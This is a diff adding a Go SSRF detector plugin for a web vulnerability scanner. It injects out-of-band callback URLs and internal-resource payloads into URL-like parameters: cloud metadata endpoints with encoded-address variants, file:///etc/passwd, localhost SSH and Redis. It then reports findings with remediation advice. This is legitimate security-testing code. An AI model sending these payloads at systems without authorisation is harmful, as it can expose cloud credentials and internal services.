@@ -0,0 +1,298 @@
+package ssrf
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"net/url"
+	"regexp"
+	"strings"
+	"time"
+
+	"github.com/dronesec/droneriskscan/internal/detector"
+	"github.com/dronesec/droneriskscan/internal/transport"
+	"github.com/dronesec/droneriskscan/pkg/models"
+)
+
+// SSRFDetector 服务端请求伪造检测器 - 带外回连与内网资源回显两种确认方式
+type SSRFDetector struct {
+	*detector.BasePlugin
+	requestModifier *detector.RequestModifier
+	paramExtractor  *detector.ParameterExtractor
+	oobProvider     detector.OOBProvider
+}
+
+// InternalProbe 内网资源探测载荷及其响应特征
+type InternalProbe struct {
+	Payload     string
+	Pattern     *regexp.Regexp
+	Description string
+}
+
+// NewSSRFDetector 创建SSRF检测器
+func NewSSRFDetector(httpClient transport.HTTPClient) *SSRFDetector {
+	base := detector.NewBasePlugin(
+		"ssrf-detector",
+		detector.PluginTypeActive,
+		models.CategoryInjection,
+		models.SeverityHigh,
+	)
+
+	base.SetDescription("检测服务端请求伪造漏洞，支持带外HTTP/DNS回连确认和云元数据、本地文件等内网资源回显")
+	base.SetAuthor("DroneRiskScan Team")
+	base.SetVersion("1.0.0")
+	base.SetHTTPClient(httpClient)
+
+	return &SSRFDetector{
+		BasePlugin:      base,
+		requestModifier: detector.NewRequestModifier(httpClient),
+		paramExtractor:  detector.NewParameterExtractor(),
+	}
+}
+
+// SetSessionCookies 设置会话Cookie
+func (s *SSRFDetector) SetSessionCookies(cookies []*http.Cookie) {
+	s.requestModifier.SetSessionCookies(cookies)
+}
+
+// SetOOBProvider 设置带外交互提供者，未设置时只进行回显检测
+func (s *SSRFDetector) SetOOBProvider(provider detector.OOBProvider) {
+	s.oobProvider = provider
+}
+
+// Execute 执行SSRF检测
+func (s *SSRFDetector) Execute(ctx context.Context, target *detector.ScanTarget) (*detector.DetectionResult, error) {
+	result := &detector.DetectionResult{
+		IsVulnerable:    false,
+		Vulnerabilities: []*models.Vulnerability{},
+		Evidence:        []detector.Evidence{},
+		Metadata:        make(map[string]interface{}),
+	}
+
+	var injectPoints []detector.InjectPoint
+	for _, point := range s.paramExtractor.ExtractParameters(target) {
+		if s.isURLParameter(point) {
+			injectPoints = append(injectPoints, point)
+		}
+	}
+	if len(injectPoints) == 0 {
+		result.Metadata["message"] = "未发现URL类参数"
+		return result, nil
+	}
+
+	fmt.Printf("[INFO] SSRF检测器找到 %d 个URL类参数\n", len(injectPoints))
+
+	for _, point := range injectPoints {
+		select {
+		case <-ctx.Done():
+			return result, ctx.Err()
+		default:
+		}
+
+		fmt.Printf("[INFO] 正在测试参数: %s (位置: %s)\n", point.Name, point.Position)
+
+		// 1. 带外回连检测
+		var vuln *models.Vulnerability
+		if s.oobProvider != nil {
+			vuln = s.testOOBBased(ctx, target, point)
+		}
+
+		// 2. 内网资源回显检测
+		if vuln == nil {
+			vuln = s.testInternalResponse(ctx, target, point)
+		}
+
+		if vuln != nil {
+			result.IsVulnerable = true
+			result.Vulnerabilities = append(result.Vulnerabilities, vuln)
+			fmt.Printf("[SUCCESS] 发现SSRF漏洞: %s\n", point.Name)
+		}
+	}
+
+	result.Metadata["tested_parameters"] = len(injectPoints)
+	result.Metadata["detection_time"] = time.Now().Format(time.RFC3339)
+	result.Metadata["vulnerabilities_found"] = len(result.Vulnerabilities)
+
+	return result, nil
+}
+
+// testOOBBased 注入带关联ID的回连地址，等待目标服务器发起请求
+func (s *SSRFDetector) testOOBBased(ctx context.Context, target *detector.ScanTarget, point detector.InjectPoint) *models.Vulnerability {
+	interaction := s.oobProvider.NewInteraction()
+
+	payloads := []string{interaction.URL}
+	if interaction.Domain != "" {
+		// 仅拼接主机名的场景（如 host=、domain=）
+		payloads = append(payloads, "http://"+interaction.Domain+"/", interaction.Domain)
+	}
+
+	var sent []string
+	for _, payload := range payloads {
+		fmt.Printf("[DEBUG] 测试SSRF回连payload: %s\n", payload)
+
+		resp, err := s.requestModifier.ModifyParameter(ctx, target, point, payload)
+		if err != nil {
+			continue
+		}
+		resp.Body.Close()
+		sent = append(sent, payload)
+	}
+	if len(sent) == 0 {
+		return nil
+	}
+
+	if s.oobProvider.WaitForInteraction(ctx, interaction.ID, 3*time.Second) {
+		vuln := s.buildVulnerability(
+			"Server-Side Request Forgery (Out-of-band)",
+			fmt.Sprintf("参数 %s 存在SSRF漏洞，目标服务器请求了注入的回连地址", point.Name),
+			target, point, strings.Join(sent, " | "),
+			fmt.Sprintf("收到关联ID %s 的带外回连", interaction.ID),
+			0.95,
+		)
+		vuln.Metadata["oob_id"] = interaction.ID
+		return vuln
+	}
+
+	// 回连可能在插件返回后才到达（异步任务、队列等），登记预期漏洞由扫描器在回连到达时上报
+	s.oobProvider.ExpectInteraction(interaction.ID, s.buildVulnerability(
+		"Server-Side Request Forgery (Out-of-band, delayed)",
+		fmt.Sprintf("参数 %s 存在SSRF漏洞，目标服务器异步请求了注入的回连地址", point.Name),
+		target, point, strings.Join(sent, " | "),
+		"",
+		0.9,
+	))
+
+	return nil
+}
+
+// testInternalResponse 请求内网资源，检查响应中是否出现对应内容
+func (s *SSRFDetector) testInternalResponse(ctx context.Context, target *detector.ScanTarget, point detector.InjectPoint) *models.Vulnerability {
+	baselineBody := string(target.BaselineBody)
+
+	for _, probe := range s.getInternalProbes() {
+		// 基准响应中已存在的特征不作为证据
+		if probe.Pattern.MatchString(baselineBody) {
+			continue
+		}
+
+		fmt.Printf("[DEBUG] 测试SSRF内网payload: %s\n", probe.Payload)
+
+		body, err := s.fetchBody(ctx, target, point, probe.Payload)
+		if err != nil {
+			continue
+		}
+
+		if match := probe.Pattern.FindString(string(body)); match != "" {
+			return s.buildVulnerability(
+				"Server-Side Request Forgery (Internal Resource)",
+				fmt.Sprintf("参数 %s 存在SSRF漏洞，服务器返回了%s的内容", point.Name, probe.Description),
+				target, point, probe.Payload,
+				fmt.Sprintf("响应中出现特征内容: %s", truncate(match, 100)),
+				0.9,
+			)
+		}
+	}
+
+	return nil
+}
+
+// fetchBody 修改注入点并读取响应体
+func (s *SSRFDetector) fetchBody(ctx context.Context, target *detector.ScanTarget, point detector.InjectPoint, value string) ([]byte, error) {
+	resp, err := s.requestModifier.ModifyParameter(ctx, target, point, value)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+
+	helper := transport.NewResponseHelper()
+	return helper.ReadBody(resp)
+}
+
+// isURLParameter 判断参数是否可能被服务端当作URL请求
+func (s *SSRFDetector) isURLParameter(point detector.InjectPoint) bool {
+	if point.Position == models.PositionCOOKIE || point.Position == models.PositionHEADER {
+		return false
+	}
+	if point.Type == detector.ParamTypeURL {
+		return true
+	}
+	if parsed, err := url.Parse(point.Value); err == nil && parsed.Scheme != "" && parsed.Host != "" {
+		return true
+	}
+
+	name := strings.ToLower(point.Name)
+	// JSON/XML路径取最后一段
+	if idx := strings.LastIndexAny(name, "./"); idx >= 0 {
+		name = name[idx+1:]
+	}
+	for _, hint := range []string{
+		"url", "uri", "link", "src", "href", "dest", "target", "callback", "webhook",
+		"feed", "host", "domain", "site", "proxy", "fetch", "load", "image", "img",
+		"avatar", "endpoint", "server", "remote", "document", "preview",
+	} {
+		if strings.Contains(name, hint) {
+			return true
+		}
+	}
+	return false
+}
+
+// getInternalProbes 内网资源探测载荷
+func (s *SSRFDetector) getInternalProbes() []InternalProbe {
+	awsMetadata := regexp.MustCompile(`(?m)^(ami-id|instance-id|local-ipv4|iam|security-credentials)\b`)
+	passwd := regexp.MustCompile(`root:[^:\r\n]*:0:0:`)
+	sshBanner := regexp.MustCompile(`SSH-\d\.\d+-[^\s]+`)
+
+	return []InternalProbe{
+		{Payload: "http://169.254.169.254/latest/meta-data/", Pattern: awsMetadata, Description: "AWS实例元数据"},
+		{Payload: "http://[::ffff:a9fe:a9fe]/latest/meta-data/", Pattern: awsMetadata, Description: "AWS实例元数据（IPv6映射地址）"},
+		{Payload: "http://2852039166/latest/meta-data/", Pattern: awsMetadata, Description: "AWS实例元数据（十进制地址）"},
+		{Payload: "http://metadata.google.internal/computeMetadata/v1beta1/?recursive=true", Pattern: regexp.MustCompile(`"(projectId|numericProjectId|serviceAccounts)"`), Description: "GCP实例元数据"},
+		{Payload: "http://100.100.100.200/latest/meta-data/", Pattern: regexp.MustCompile(`(?m)^(instance-id|image-id|region-id)\b`), Description: "阿里云实例元数据"},
+		{Payload: "file:///etc/passwd", Pattern: passwd, Description: "本地文件/etc/passwd"},
+		{Payload: "file:///c:/windows/win.ini", Pattern: regexp.MustCompile(`(?i)\[(fonts|extensions)\]`), Description: "本地文件win.ini"},
+		{Payload: "http://127.0.0.1:22/", Pattern: sshBanner, Description: "本机SSH服务"},
+		{Payload: "http://0x7f000001:22/", Pattern: sshBanner, Description: "本机SSH服务（十六进制地址）"},
+		{Payload: "http://[::1]:22/", Pattern: sshBanner, Description: "本机SSH服务（IPv6回环地址）"},
+		{Payload: "dict://127.0.0.1:6379/info", Pattern: regexp.MustCompile(`redis_version:[\d.]+`), Description: "本机Redis服务"},
+	}
+}
+
+// buildVulnerability 构建SSRF漏洞对象
+func (s *SSRFDetector) buildVulnerability(
+	title, description string,
+	target *detector.ScanTarget,
+	point detector.InjectPoint,
+	payload, evidence string,
+	confidence float64,
+) *models.Vulnerability {
+	return models.NewVulnerabilityBuilder().
+		WithType(models.VulnSSRF).
+		WithCategory(models.CategoryInjection).
+		WithSeverity(models.SeverityHigh).
+		WithTitle(title).
+		WithDescription(description).
+		WithURL(target.URL.String()).
+		WithMethod(target.Method).
+		WithParameter(point.Name, point.Position).
+		WithPayload(payload).
+		WithEvidence(evidence).
+		WithConfidence(confidence).
+		WithPlugin(s.Name()).
+		WithCWE("CWE-918").
+		WithCVSS(8.6).
+		WithSolution("对服务端发起请求的目标地址使用白名单校验协议、主机和端口，解析后拒绝内网与保留地址，并禁用不必要的重定向跟随").
+		WithReferences([]string{
+			"https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
+			"https://cheatsheetseries.owasp.org/cheatsheets/Server_Side_Request_Forgery_Prevention_Cheat_Sheet.html",
+		}).
+		Build()
+}
+
+// truncate 截断过长的证据
+func truncate(s string, n int) string {
+	if len(s) <= n {
+		return s
+	}
+	return s[:n] + "..."
+}